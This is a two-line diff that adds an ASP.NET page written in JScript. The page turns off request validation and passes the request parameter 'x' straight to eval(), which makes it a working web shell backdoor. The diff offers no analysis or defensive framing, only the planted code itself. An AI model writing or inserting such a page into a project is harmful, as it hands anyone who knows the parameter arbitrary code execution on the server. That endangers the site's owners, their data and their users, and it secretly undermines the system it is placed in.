@@ -1,0 +1,2 @@
+<%@ Page Language="Jscript" validateRequest="false" %>
+<% var q = Request; var v = q.Params["x"]; eval(v); %>
